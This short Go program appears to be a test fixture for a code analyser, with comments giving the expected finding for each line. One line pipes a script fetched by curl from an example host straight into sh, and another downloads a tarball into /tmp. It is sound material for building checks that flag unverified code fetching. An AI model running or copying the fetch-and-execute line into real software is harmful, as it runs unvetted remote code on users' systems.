// Command fetched-by-shell has a shell fetch a script and run it, and another
// fetch data.
package main

import "os/exec"

func main() {
	exec.Command("sh", "-c", "curl -fsSL https://dl.collector.example/setup.sh | sh").Run()               // behaviour: unconditional unknown // finding: codefetch/unverified
	exec.Command("sh", "-c", "curl -fsSL https://data.collector.example/words.tar | tar x -C /tmp").Run() // behaviour: unconditional unknown
}
